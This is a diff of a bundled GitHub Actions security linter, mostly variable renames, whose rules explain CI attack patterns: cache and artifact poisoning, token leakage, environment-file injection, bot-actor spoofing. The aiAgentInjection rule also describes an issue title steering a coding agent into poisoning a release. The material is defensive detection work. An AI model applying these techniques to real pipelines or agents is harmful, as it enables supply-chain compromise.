@@ -85,8 +85,8 @@ function escapeJsonOutput(json) {
 }
 
 // server/src/cli/run.ts
-var import_node_fs12 = require("node:fs");
-var import_node_path13 = require("node:path");
+var import_node_fs13 = require("node:fs");
+var import_node_path14 = require("node:path");
 
 // shared/src/github-hosts.ts
 var PUBLIC_SERVER_URL = "https://github.com";
@@ -181,7 +181,8 @@ var NO_VIEWS = Object.freeze({
   online: unavailable("not-fetched"),
   workspace: unavailable("not-indexed"),
   dependencies: unavailable("not-fetched"),
-  lock: unavailable("not-indexed")
+  lock: unavailable("not-indexed"),
+  policy: unavailable("not-fetched")
 });
 var lockViews = /* @__PURE__ */ new WeakMap();
 function rememberLockView(file, view) {
@@ -8174,13 +8175,13 @@ var Reader = class _Reader {
         this.pos = lineEnd + 1;
       }
       this.pos = Math.min(after, this.end);
-      const record = {
+      const record2 = {
         delimiter: heredoc.delimiter,
         quoted: heredoc.quoted,
         body: this.text.slice(bodyStart, bodyEnd),
         bodySpan: { start: bodyStart, end: bodyEnd }
       };
-      heredoc.command?.heredocs.push(record);
+      heredoc.command?.heredocs.push(record2);
     }
   }
 };
@@ -9039,7 +9040,7 @@ var adhocPackages = {
     why: "An unpinned install is the moment a compromised release reaches you. In LiteLLM (2026, PYSEC-2026-2) the job holding the PyPI credential ran an unpinned `apt-get install trivy` hours after Trivy's release channel was taken over (CVE-2026-33634); the scanner stole the credential and malicious LiteLLM versions followed. Shai-Hulud (2025) spread through `npm install` of freshly published worm versions.",
     fix: "Pin every package (`pip install ruff==0.6.9`, `npm install -g pnpm@9.12.0`, `go install golang.org/x/tools/cmd/goimports@v0.26.0`, `gem install bundler -v 2.5.22`, `apt-get install jq=1.7.1-3`), better with hashes (`pip install --require-hashes -r requirements.txt`), or use a lock file (`npm ci`, `uv sync --locked`). Keep such installs out of jobs that hold publish credentials."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const run2 of runScripts(file)) {
       let credentials;
       for (const command of run2.script.commands) {
@@ -9048,7 +9049,7 @@ var adhocPackages = {
         if (credentials === void 0) credentials = publishCredentials(file, run2.job);
         const names2 = install.packages.map((word) => `\`${word.text}\``);
         const span = run2.sourceSpan({ start: install.packages[0].span.start, end: install.packages[install.packages.length - 1].span.end });
-        report2({
+        report4({
           span,
           message: `\`${install.manager}\` installs ${names2.slice(0, 4).join(", ")}${names2.length > 4 ? "…" : ""} without a version${credentials ? `, in a job holding publish credentials (${credentials})` : ""}: every run takes whatever the registry serves`,
           severity: credentials ? "medium" : "low",
@@ -10480,7 +10481,7 @@ var aiAgentInjection = {
     why: "A model cannot tell the workflow author's instructions from instructions hidden in the text it is given. In Cline (2026), an `issues` workflow passed the issue title to `claude-code-action`, open to non-writers and allowed to run `Bash`; an issue title told the agent to run commands, which poisoned a cache used by the nightly publish and shipped a malicious `cline` release.",
     fix: "Do not put outsider text in the prompt: have the agent read it through a read-only tool, keep the agent to read-only tools (no `Bash`, no `danger-full-access`), keep the default write-access check (no `allowed_non_write_users: '*'`), and give the job `permissions:` no wider than the agent needs, with no secrets other than the model key."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const reportedSteps = /* @__PURE__ */ new Set();
     const factsCache = /* @__PURE__ */ new Map();
     const factsOf = (step, job) => {
@@ -10522,7 +10523,7 @@ var aiAgentInjection = {
       const outsider = verdict2.severity === "high";
       const severity = outsider ? severityFor(facts) : "low";
       const confidence = !outsider ? "low" : knownTriggers ? verdict2.confidence : lower(verdict2.confidence);
-      report2({
+      report4({
         span: { start: leaf.start, end: leaf.end },
         message: `\`${leaf.path}\` is written into \`${input2}\` of \`${facts.repository}\`, the agent's instructions: ${verdict2.reason}. Whoever writes it can steer the agent (${aggravation(facts)})`,
         severity,
@@ -10541,11 +10542,11 @@ var aiAgentInjection = {
         if (!facts || !step.uses) continue;
         const prompts = facts.agent.promptInputs.filter((name) => name !== "claude_args" && name !== "codex-args" && name !== "codex_args").map((name) => withValue(step, name)).filter((value) => value !== null);
         const promptFile = withValue(step, "prompt-file") ?? withValue(step, "prompt_file");
-        const usesSpan2 = step.uses.valueSpan;
+        const usesSpan3 = step.uses.valueSpan;
         const tagMode = facts.agent.tagMode;
         const triggerText = outsiderTriggers.map((t) => `\`${t}\``).join(", ");
         if (prompts.length === 0 && !promptFile && facts.open && tagMode && facts.openSpan) {
-          report2({
+          report4({
             span: facts.openSpan,
             message: `\`${facts.repository}\` takes its instructions from the triggering comment, issue or pull request, and ${facts.openWhy} (${triggerText}): anyone can instruct the agent (${facts.tools !== "none" ? facts.toolsWhy : "no tools"})`,
             severity: facts.tools === "none" ? "low" : "high",
@@ -10557,8 +10558,8 @@ var aiAgentInjection = {
         if (facts.tools === "none") continue;
         const reading = prompts.find((value) => READS_EVENT_TEXT.test(value.text)) ?? promptFile ?? (facts.open ? prompts[0] : void 0);
         if (!reading) continue;
-        report2({
-          span: usesSpan2,
+        report4({
+          span: usesSpan3,
           message: `\`${facts.repository}\` runs under ${triggerText} with ${reading === promptFile ? "a prompt file assembled by the job" : "a prompt about the event"}: text an outsider writes may reach the model (${aggravation(facts)}); check what its tools and token can do`,
           severity: "medium",
           confidence: "low",
@@ -10584,16 +10585,16 @@ var anonymousDefinition = {
     why: "Reviewing run history after an incident (which workflow ran, which job used a secret) is slower when names are paths and ids; required status checks bound to unnamed jobs break silently when ids change.",
     fix: "Add `name:` at the top of the workflow and to each job."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow || !workflow.map) return;
     if (!workflow.has("name")) {
       const first = workflow.entries[0];
-      if (first) report2({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
+      if (first) report4({ span: first.keySpan, message: "This workflow has no `name:`; the Actions UI will show its file path" });
     }
     for (const job of workflow.jobs) {
       if (!job.map || job.has("name")) continue;
-      report2({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
+      report4({ span: job.idSpan, message: `Job \`${job.id}\` has no \`name:\`; it will be shown by its id`, severity: "informational" });
     }
   }
 };
@@ -10667,7 +10668,7 @@ var archivedUses = {
     why: "An archived repository gets no security fixes: when a vulnerability is found in it, or in the runtime or dependencies it bundles, nobody will release a patched version. `actions/create-release` and the `actions-rs/*` actions are still copied into new workflows years after they were abandoned.",
     fix: "Replace the action with its maintained successor (the message names one when there is an obvious one) or with a plain command (`gh release create`, `cargo`, `aws s3 sync`)."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote") continue;
@@ -10675,7 +10676,7 @@ var archivedUses = {
       if (!archived) continue;
       const end = reference.ref === null ? site.value.length : reference.refStart - 1;
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report2({
+      report4({
         span,
         message: `\`${usesTarget(reference)}\` comes from an archived repository that receives no fixes${archived.replacement ? `; use ${archived.replacement} instead` : ""}`
       });
@@ -10815,7 +10816,7 @@ var artifactPoisoning = {
     why: 'Artifacts uploaded by a `pull_request` run contain whatever the pull request wanted. A `workflow_run` job that downloads them into its workspace lets them overwrite scripts, configuration or `node_modules` of the trusted checkout, and then runs them with the repository\'s secrets. GitHub Security Lab documented the pattern ("Keeping your GitHub Actions and workflows secure Part 1", 2021), and CodeQL ships `actions/artifact-poisoning` queries for it.',
     fix: "Download into a fresh directory outside the workspace (`path: ${{ runner.temp }}/artifacts`), treat every file as untrusted data (validate a PR number with a regular expression, never `source` or execute it), and never extract archives over the checkout."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const triggers = privilegedTriggers(workflow, TRIGGERS2);
@@ -10868,7 +10869,7 @@ var artifactPoisoning = {
           const runner = workspaceExecution(file, job, scripts, download.step, download.after);
           checkout ??= checksOut(file, job, scripts);
           if (!runner && !checkout) continue;
-          report2({
+          report4({
             span: download.span,
             message: runner ? `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root${checkout ? ", over the trusted checkout," : ""} and ${runner.what} then runs what is there; a fork pull request controls their content` : `${download.what} in \`${triggers[0]}\` job \`${job.id}\` extracts the triggering run's artifacts into the workspace root, over the trusted checkout; no later step is known to run workspace files, but any that reads the checkout reads what a fork pull request put there`,
             confidence: runner ? "medium" : "low",
@@ -10879,7 +10880,7 @@ var artifactPoisoning = {
         }
         const use = laterUse(scripts, download);
         if (!use) continue;
-        report2({
+        report4({
           span: download.span,
           message: `${download.what} in \`${triggers[0]}\` job \`${job.id}\` fetches the triggering run's artifacts and ${use.what} them; a fork pull request controls their content`,
           confidence: "medium",
@@ -11089,7 +11090,7 @@ var artipacked = {
     why: 'In "ArtiPACKED" (Palo Alto Unit 42, 2024) public repositories of Google, Microsoft, AWS, Red Hat and others uploaded their whole workspace as an artifact: `.git/config` inside it held the `GITHUB_TOKEN` (and sometimes a PAT) that `actions/checkout` had persisted, and anyone could download the artifact and race the job to use the token. Astral sets `persist-credentials: false` on every checkout (uv: 132 of 132).',
     fix: "Add `persist-credentials: false` under the checkout's `with:`. A later step that really needs to push can pass the token explicitly (e.g. `git push https://x-access-token:${GH_TOKEN}@github.com/...` with `GH_TOKEN` in that step's `env:`)."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     let gitSteps;
     const gitRemote = () => gitSteps ??= gitRemoteSteps(file);
     const laterOf = /* @__PURE__ */ new Map();
@@ -11108,7 +11109,7 @@ var artipacked = {
       const related2 = upload ? [{ span: upload.uses.valueSpan, message: modern ? "uploads the workspace" : "uploads the workspace, `.git/config` included" }] : [];
       if (value !== null && value.trim().toLowerCase() === "false") continue;
       if (value !== null && value.trim().toLowerCase() === "true") {
-        report2({
+        report4({
           span: persist.valueSpan,
           message: `\`persist-credentials: true\` keeps the token in the checkout for every later step${upload ? ", and a later step uploads the workspace" : ""}`,
           severity: upload ? "high" : "low",
@@ -11119,7 +11120,7 @@ var artipacked = {
         continue;
       }
       if (value !== null) {
-        report2({
+        report4({
           span: persist.valueSpan,
           message: `\`persist-credentials\` is computed; when it is true the token stays in ${where2}`,
           severity: "low",
@@ -11132,7 +11133,7 @@ var artipacked = {
       let severity = upload ? "high" : "medium";
       if (modern) severity = LOWER[severity];
       const pushes = !upload && later.pushAfter(step.index);
-      report2({
+      report4({
         span,
         message: upload ? `\`${action.site.value}\` persists the token in ${where2} and a later step uploads the workspace: anyone who can download the artifact gets the token` : pushes ? `\`${action.site.value}\` persists the token in ${where2}; a later step pushes with it. Prefer \`persist-credentials: false\` and pass the token to that step only` : `\`${action.site.value}\` persists the token in ${where2}, readable by every later step; add \`persist-credentials: false\``,
         severity: pushes ? "low" : severity,
@@ -11375,7 +11376,7 @@ var botConditions = {
     why: "`github.actor` is whoever caused the latest event, not who wrote the pull request. On `pull_request_target` an attacker can open a pull request and get Dependabot to act on it (for example by having it update a branch of their fork), so the latest event's actor is `dependabot[bot]` and the step meant for Dependabot's own pull requests (auto-merge, secrets, a write token) runs for the attacker's code.",
     fix: "Check who opened the pull request instead: `github.event.pull_request.user.login == 'dependabot[bot]'` (the quick fix does this when the workflow has a single pull request or issue trigger), and for Dependabot use `dependabot/fetch-metadata`."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     if (!file.workflow) return;
     const triggers = scopeTriggers(file);
     const outsider = triggers ? triggers.filter((trigger) => triggerInfo(trigger)?.outsiderCanFire) : [];
@@ -11431,7 +11432,7 @@ var botConditions = {
         }
         const severity = triggers === null ? "medium" : outsider.length > 0 ? "high" : "low";
         const why = outsider.length > 0 ? `on ${outsider.map((t) => `\`${t}\``).join(", ")} an attacker can make a bot the actor of an event on their own ${outsider.some((t) => t.startsWith("pull_request") || t === "workflow_run") ? "pull request" : "issue or pull request"}` : triggers === null ? "the caller's event decides who the actor is" : "the actor is whoever caused the latest event, not who wrote the code";
-        report2({
+        report4({
           span: { start: match.node.start, end: match.node.end },
           message: `\`${actorText}\` is checked against \`${match.bot}\`: ${why}, so this condition ${dominating ? "passes" : "can pass"} for their code${single ? `; compare \`${match.actor.kind === "login" ? single.login : single.id}\` instead` : ""}`,
           severity,
@@ -12026,7 +12027,7 @@ var cachePoisoning = {
     why: "Caches are shared across a repository's runs: whoever can write an entry that the release job restores controls what gets built. In Ultralytics (2024) a poisoned cache went into the PyPI releases 8.3.41/42; in TanStack (2026, CVE-2026-45321) a `pull_request_target` build wrote the cache the release job restored, and 84 npm versions shipped with valid provenance. Cline (2026) was poisoned the same way through its nightly publish.",
     fix: "Turn caching off in release and publish jobs (`enable-cache: false` for setup-uv, `cache: false` for setup-go, no `cache:` / `package-manager-cache: false` for setup-node, `ACTIONS_CACHE_MODE: none` in the job's `env:` for actions built on `@actions/cache` ≥ 6.2.0), and never build pull request code in a `pull_request_target` job."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     const privileged2 = privilegedTriggers(workflow);
@@ -12064,7 +12065,7 @@ var cachePoisoning = {
         const fixes = offFix(file, step, known, value, enabled);
         const related2 = signals.slice(0, 3).map((signal) => ({ span: signal.span, message: `publishes: ${signal.what}` }));
         if (untrusted.length > 0 && known.mode !== "restore") {
-          report2({
+          report4({
             span,
             message: `\`${action.name}\` writes the cache of the base branch from a \`${privileged2[0]}\` job that builds pull request code: the next job restoring that cache (a release, too) runs what the pull request put in it`,
             severity: "high",
@@ -12083,7 +12084,7 @@ var cachePoisoning = {
         const what = signals.filter((signal) => releases || forTags !== true || signal.scope === "tags").map((signal) => signal.what).slice(0, 2).join(", ");
         const how = forTags === true ? `restores a cache on tag pushes (\`${value?.trim()}\`)` : enabled === true ? "restores a cache" : enabled === "conditional" ? known.autoInput ? `may restore a cache (v${major} caches automatically when package.json ${major !== null && major >= 6 ? "names npm as its package manager" : "has a `packageManager` field"}; \`${known.autoInput.input}: false\` turns it off)` : "may restore a cache (on by default when a lock file is found)" : "may restore a cache (caching is set by an expression)";
         const jobStrong = signals.some((signal) => signal.strong && signal.scope !== "tags");
-        report2({
+        report4({
           span,
           message: `\`${action.name}\` ${how} in job \`${job.id}\`, which publishes (${what}): a poisoned cache entry ends up in the release`,
           confidence: releases && enabled === true || forTags === true ? "medium" : "low",
@@ -12136,7 +12137,7 @@ var concurrencyLimits = {
     why: "Without a limit every new event (a push, a pull-request update) starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
     fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow || workflow.jobs.length === 0) return;
     const events = supersedingEvents(workflow.triggers);
@@ -12145,7 +12146,7 @@ var concurrencyLimits = {
     if (declaresCancel(top, workflow.doc)) return;
     if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
     const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
-    report2({
+    report4({
       span,
       message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : `This workflow has no \`concurrency\` group with \`cancel-in-progress\`: ${events} starts another full run while older ones continue`
     });
@@ -12199,7 +12200,7 @@ var dangerousTriggers = {
     why: "These triggers are behind most CI compromises of 2024–2026: spotbugs (the start of the reviewdog → tj-actions chain), Ultralytics, PostHog, Trivy (hackerbot-claw), TanStack and the prt-scan wave all ran attacker-controlled code or text in a `pull_request_target` workflow that held secrets or a write token. Since 2025-12-08 GitHub runs `pull_request_target` from the workflow file of the default branch, so a pull request can no longer change the workflow itself through its base branch; the code a workflow checks out from the pull request, its title, branch name and artifacts are still the contributor's. Astral forbids both triggers organisation-wide.",
     fix: "Use `pull_request` (fork runs get no secrets and a read-only token). To comment on pull requests, let a `pull_request` workflow upload its results and have a GitHub App or a separate, minimal workflow act on them without checking out or executing pull request code."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const workflow = file.workflow;
     if (!workflow) return;
     let safe;
@@ -12210,7 +12211,7 @@ var dangerousTriggers = {
       const subject = jobs === 1 ? "its job" : `its ${jobs} jobs`;
       const base2 = `\`${trigger.name}\` runs with the base repository's secrets and a token that can write, and can be fired by ${trigger.name === "workflow_run" ? "a run started from a fork pull request" : "any fork pull request"}`;
       if (trigger.name === "pull_request_target" && (safe ??= onlySafeActions(file))) {
-        report2({
+        report4({
           span: trigger.span,
           message: `${base2}; ${subject} only ${jobs === 1 ? "runs" : "run"} ${safe.map((name) => `\`${name}\``).join(", ")}, documented as safe for this trigger (no pull request code is checked out or run)`,
           severity: "informational",
@@ -12219,7 +12220,7 @@ var dangerousTriggers = {
         continue;
       }
       const verb = info.privileged ? jobs === 1 ? "inherits that privilege" : "inherit that privilege" : jobs === 1 ? "runs with it" : "run with it";
-      report2({ span: trigger.span, message: `${base2}; ${subject} ${verb}` });
+      report4({ span: trigger.span, message: `${base2}; ${subject} ${verb}` });
     }
   }
 };
@@ -12258,7 +12259,7 @@ var dependabotCooldown = {
     why: "Compromised releases are usually caught within days: the malicious tj-actions/changed-files and reviewdog tags (March 2025) were live for hours, the Trivy tags (March 2026) for about 12 hours, and most npm worm releases of 2025 were pulled within a day. A cooldown lets that window pass before your updater proposes the version. Astral requires at least 7 days.",
     fix: "Add `cooldown: { default-days: 7 }` to every `updates:` entry (the quick fix inserts or raises it)."
   },
-  check({ file, config, report: report2 }) {
+  check({ file, config, report: report4 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     const minimum = typeof config.days === "number" && Number.isFinite(config.days) && config.days >= 1 ? Math.floor(config.days) : DEFAULT_DAYS;
@@ -12274,7 +12275,7 @@ var dependabotCooldown = {
         if (minimum <= DEPENDABOT_DEFAULT_DAYS) continue;
         const firstKey = update.entries[0];
         const indent = firstKey ? columnIndent(file, firstKey.keySpan.start) : "  ";
-        report2({
+        report4({
           span: anchor,
           message: `${name} updates have no cooldown, so a new release waits only Dependabot's default of ${DEPENDABOT_DEFAULT_DAYS} days. Add \`cooldown: { default-days: ${minimum} }\``,
           severity: "low",
@@ -12294,7 +12295,7 @@ var dependabotCooldown = {
       if (!days) {
         if (minimum <= DEPENDABOT_DEFAULT_DAYS) continue;
         const first = mapEntries(cooldown.map, file.doc)[0];
-        report2({
+        report4({
           span: cooldownEntry.keySpan,
           message: `${name} updates have a cooldown without \`default-days\`, so versions not covered by the other keys${ecosystem?.value === "github-actions" ? " (all of them for `github-actions`, which takes only `default-days`)" : ""} wait only Dependabot's default of ${DEPENDABOT_DEFAULT_DAYS} days. Set \`default-days: ${minimum}\``,
           severity: "low",
@@ -12313,7 +12314,7 @@ var dependabotCooldown = {
       const value = text === null ? NaN : Number(text);
       if (Number.isFinite(value) && value >= minimum) continue;
       if (text !== null && text.includes("${{")) continue;
-      report2({
+      report4({
         span: days.valueSpan,
         message: Number.isFinite(value) && value < DEPENDABOT_DEFAULT_DAYS ? `${name} updates wait only ${text} day(s) before proposing a release, less than Dependabot's own default of ${DEPENDABOT_DEFAULT_DAYS}; use at least ${minimum}` : `${name} updates wait only ${text ?? "an unknown number of"} day(s) before proposing a release; use at least ${minimum}`,
         severity: Number.isFinite(value) && value < DEPENDABOT_DEFAULT_DAYS ? "medium" : "low",
@@ -12344,14 +12345,14 @@ var dependabotExecution = {
     why: "Package managers such as pip (setup.py), Bundler (gemspecs) and Mix evaluate code to resolve dependencies. With this option on, a malicious or compromised release executes inside Dependabot's update job, next to the registry credentials configured for it.",
     fix: "Remove the option or set it to `deny` (the default). If updates then fail, vendor the dependency or move the logic out of the manifest."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     for (const update of dependabot.updates) {
       const option = update.string("insecure-external-code-execution");
       if (!option || option.value !== "allow") continue;
       const ecosystem = update.string("package-ecosystem")?.value;
-      report2({
+      report4({
         span: option.span,
         message: `Dependabot may execute code from ${ecosystem ? `\`${ecosystem}\`` : "these"} dependencies while updating them, with access to the configured registry credentials`,
         fixes: [
@@ -12381,7 +12382,7 @@ var dependabotMissingActions = {
     why: "SHA pins (the defence against moved tags such as tj-actions/changed-files in 2025 and trivy-action in 2026) freeze the action at one commit: without an updater they silently miss security fixes, like the patched releases those incidents produced. The file is judged alone; a repository that updates actions with Renovate can ignore this rule.",
     fix: "Add an entry: `- package-ecosystem: github-actions`, `directory: /`, a `schedule:` and a `cooldown:` (the quick fix appends one)."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     const dependabot = file.dependabot;
     if (!dependabot) return;
     const updatesEntry = dependabot.get("updates");
@@ -12413,7 +12414,7 @@ var dependabotMissingActions = {
         });
       }
     }
-    report2({
+    report4({
       span: updatesEntry.keySpan,
       message: "Dependabot updates no `github-actions` ecosystem: SHA-pinned actions in this repository will never be bumped",
       fixes
@@ -13754,8 +13755,8 @@ function analyzeRun(script, context) {
   return { needs, unknowns, usesTokenCommand };
 }
 function scriptReadsVariable(script, names2) {
-  const reads = variableReads(script);
-  for (const name of names2) if (reads.has(name)) return true;
+  const reads2 = variableReads(script);
+  for (const name of names2) if (reads2.has(name)) return true;
   return false;
 }
 var isWordChar = (ch) => ch !== void 0 && (ch >= "a" && ch <= "z" || ch >= "A" && ch <= "Z" || ch >= "0" && ch <= "9" || ch === "_");
@@ -13789,7 +13790,7 @@ function variableReads(script) {
     } else if (ch === "g" && script.startsWith("getenv(", i)) keyAt(i + 7);
   }
   keys.sort();
-  const reads = {
+  const reads2 = {
     has(name) {
       if (name === "") return false;
       if (WORD_NAME.test(name) && words2.has(name)) return true;
@@ -13804,8 +13805,8 @@ function variableReads(script) {
     }
   };
   lastScript = script;
-  lastReads = reads;
-  return reads;
+  lastReads = reads2;
+  return reads2;
 }
 
 // server/src/permissions/infer.ts
@@ -14626,7 +14627,7 @@ var forbiddenUses = {
     why: `Every third-party action runs with the job's token and secrets. Organisations that vet actions (as GitHub's own "allowed actions" policy does) need the editor to say so before CI does; the 2025 tj-actions/changed-files and reviewdog compromises hit repositories that had never decided whether they trusted those owners.`,
     fix: "Use an allowed action, or extend the policy in `.github/actions-warden.yml` (or `zizmor.yml`): `rules: { forbidden-uses: { config: { allow: [actions/*, astral-sh/setup-uv] } } }`."
   },
-  check({ file, config, report: report2 }) {
+  check({ file, config, report: report4 }) {
     const allow = patterns(config.allow);
     const deny = allow ? null : patterns(config.deny);
     if (!allow && !deny) return;
@@ -14637,11 +14638,11 @@ var forbiddenUses = {
       const span = site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
       if (allow) {
         if (!allow.some((pattern) => matchesUsesPattern(pattern, reference))) {
-          report2({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
+          report4({ span, message: `\`${target}\` is not in the configured allow list of forbidden-uses` });
         }
       } else if (deny) {
         const hit = deny.find((pattern) => matchesUsesPattern(pattern, reference));
-        if (hit) report2({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
+        if (hit) report4({ span, message: `\`${target}\` is forbidden by the configured deny pattern \`${hit}\`` });
       }
     }
   }
@@ -14687,7 +14688,7 @@ var githubApp = {
     why: "App tokens are how hardened projects (Astral, the Trivy and Grafana post-mortems) replace long-lived PATs — but an App installation usually spans an organisation. In the 2025 Grafana incident an injected workflow stole exactly such credentials; a token scoped to one repository and a few permissions, revoked at the end of the job, limits what a thief can do and for how long.",
     fix: "Name the repositories (`repositories: repo-a`), request only the permissions used (`permission-contents: write`), and leave token revocation on."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const site of file.uses) {
       const reference = site.reference;
       if (reference.kind !== "remote" || !APP_TOKEN_ACTIONS.has(reference.repository.toLowerCase()) || !site.step) continue;
@@ -14696,7 +14697,7 @@ var githubApp = {
       const label = `Step \`${step.label}\``;
       const skip = inputs.string("skip-token-revoke");
       if (skip && skip.value.trim().toLowerCase() === "true") {
-        report2({
+        report4({
           span: skip.span,
           message: `${label} keeps its App token valid after the job ends (\`skip-token-revoke: true\`): a leaked token stays usable for up to an hour`
         });
@@ -14705,14 +14706,14 @@ var githubApp = {
       const permissions = inputs.entries.filter((entry) => entry.key.startsWith("permission-"));
       const organizationOnly = permissions.length > 0 && permissions.every((entry) => isOrganizationPermissionInput(entry.key));
       if (owner && !inputs.has("repositories") && !organizationOnly) {
-        report2({
+        report4({
           span: owner.keySpan,
           message: `${label} sets \`owner\` without \`repositories\`, so the token can act on every repository the App is installed on`,
           confidence: "medium"
         });
       }
       if (permissions.length === 0) {
-        report2({
+        report4({
           span: site.entry.valueSpan,
           message: `${label} requests no \`permission-*\` inputs, so the token carries every permission granted to the App: request only what the job uses`,
           severity: "medium"
@@ -15184,7 +15185,7 @@ var githubEnv = {
     why: "Every line of `GITHUB_ENV` becomes an environment variable of the later steps, and every line of `GITHUB_PATH` a directory searched first for commands. If an attacker chooses part of that text (a branch name with a newline, an artifact or file from a pull request), they set `LD_PRELOAD`, `NODE_OPTIONS` or `BASH_ENV`, or put their directory in front of `PATH`, and run code with the job's secrets. GitHub disabled `::set-env::` in 2020 (CVE-2020-15228) for this reason; the environment files inherited the risk.",
     fix: 'Keep untrusted values out of the environment files: use step outputs (`GITHUB_OUTPUT`) and pass them to later steps through `env:`, validate the value first (`[[ "$V" =~ ^[0-9.]+$ ]]`), or write only literals. When a multi-line value must go to `GITHUB_ENV`, use the `NAME<<DELIMITER` form with a random delimiter.'
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     let severity;
     let context;
     if (file.workflow) {
@@ -15202,7 +15203,7 @@ var githubEnv = {
       const tainted = write.taint.kind === "tainted";
       const confidence = tainted ? "high" : "low";
       const quiet = !file.workflow && !tainted && !(write.taint.kind === "dynamic" && /inputs\./.test(write.taint.what));
-      report2({
+      report4({
         span: write.span,
         message: `${how} writes ${describe(write.taint)} to \`${write.target}\` in ${context}: ${write.target === "GITHUB_PATH" ? "later steps look for commands in that directory first" : "later steps run with whatever variables that text sets (`LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV`)"}`,
         severity: tainted ? "high" : quiet ? "low" : severity,
@@ -16089,7 +16090,7 @@ function resolvedUses(sites, snapshot, which) {
 }
 
 // server/src/rules/impostor-commit.ts
-function checkImpostorCommit({ file, online, report: report2 }) {
+function checkImpostorCommit({ file, online, report: report4 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const site of file.uses) {
@@ -16097,7 +16098,7 @@ function checkImpostorCommit({ file, online, report: report2 }) {
     if (!uses || uses.refKind !== "sha") continue;
     const membership = membershipFor(snapshot, uses);
     if (membership?.status !== "impostor") continue;
-    report2({
+    report4({
       span: refOrValueSpan(site, uses),
       message: `Commit ${uses.ref} is not on any branch or tag of ${uses.repository} (compared with ${membership.checked} refs): it comes from a fork, and \`${usesTarget(uses)}\` runs the fork's code`
     });
@@ -16158,14 +16159,14 @@ var insecureCommands = {
     why: "GitHub disabled these commands in 2020 (CVE-2020-15228) because any text a step prints — a pull request title echoed by a test, a dependency's output — could set `LD_PRELOAD`, `NODE_OPTIONS` or `PATH` for the following steps and take over the job.",
     fix: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead. The quick fix removes the entry."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     for (const env of envMaps(file)) {
       env.entries.forEach((entry, index2) => {
         if (entry.key.toUpperCase() !== NAME) return;
         const value = (scalarText(entry.value) ?? "").trim().toLowerCase();
         if (value === "false" || value === "0" || value === "") return;
         const edit = removeEntry(file, env, index2);
-        report2({
+        report4({
           span: entry.keySpan,
           message: `\`${NAME}: ${value}\` lets any text printed by a step set environment variables and PATH for the following steps`,
           confidence: value.includes("${{") ? "medium" : "high",
@@ -16889,7 +16890,7 @@ var knownVulnerableActions = {
     fix: "Move to the first patched release (pinned by SHA with a version comment), and rotate any secret the job could read while a compromised version ran.",
     onlineLookup: "the advisory database lookup"
   },
-  check({ file, online, report: report2 }) {
+  check({ file, online, report: report4 }) {
     const snapshot = viewValue(online);
     for (const site of file.uses) {
       const reference = site.reference;
@@ -16904,7 +16905,7 @@ var knownVulnerableActions = {
         const sha = /^[0-9a-f]{40}$/i.test(reference.ref) ? reference.ref.toLowerCase() : null;
         if (sha) {
           if (advisory.badCommits?.includes(sha)) {
-            report2({
+            report4({
               span: refSpan2,
               message: `\`${target}@${reference.ref.slice(0, 12)}…\` is the malicious commit of ${ids(advisory)}: ${advisory.summary}. Rotate every secret this job could read${upgrade(advisory)}`,
               severity: advisory.severity,
@@ -16917,7 +16918,7 @@ var knownVulnerableActions = {
           const version2 = tagged ?? usesCommentVersion(file, site);
           if (version2 && verdict(version2, advisory) === "affected") {
             const fix = bumpFix(file, site, reference, refs, advisory);
-            report2({
+            report4({
               span: refSpan2,
               message: `\`${target}\` is pinned to a commit ${tagged ? "tagged" : "commented as"} \`${version2}\`, affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`,
               severity: advisory.severity,
@@ -16947,7 +16948,7 @@ var knownVulnerableActions = {
           });
         }
